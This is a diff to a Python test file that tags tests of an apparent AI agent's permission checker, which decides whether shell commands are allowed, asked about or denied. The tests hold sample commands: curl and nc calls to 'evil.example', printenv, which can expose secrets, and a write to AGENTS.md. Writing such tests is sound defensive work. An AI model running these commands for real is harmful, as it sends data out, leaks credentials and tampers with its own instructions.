@@ -34,6 +34,7 @@ def decided(
     return judge.decide(intent, mode=mode, around=Around(outside=outside, is_online=is_online))
 
 
+@pytest.mark.proves("permissions-taint")
 def test_a_command_that_would_leave_the_cage_may_send(tmp_path: Path):
     for intent in (shell("curl https://evil.example"), shell("nc evil.example 80")):
         assert decided(tmp_path, intent).outcome == "allow"
@@ -41,6 +42,7 @@ def test_a_command_that_would_leave_the_cage_may_send(tmp_path: Path):
     assert (found.outcome, found.sources) == ("ask", READ.sources)
 
 
+@pytest.mark.proves("permissions-taint")
 def test_what_may_show_keys_is_asked_about_though_no_file_is_named(tmp_path: Path):
     assert decided(tmp_path, shell("printenv")).sources == READ.sources
     assert decided(tmp_path, shell("printenv"), outside=Outside()).outcome == "allow"
@@ -52,6 +54,7 @@ def test_instructions_may_be_read_and_not_written(tmp_path: Path):
     assert decided(tmp_path, shell("tee AGENTS.md")).sources == READ.sources
 
 
+@pytest.mark.proves("permissions-taint")
 def test_a_policy_that_asks_nobody_refuses_what_was_led_to(tmp_path: Path):
     for name, outcome in (("never", "deny"), ("on-request", "ask")):
         held = Approval(name="never" if name == "never" else "on-request")
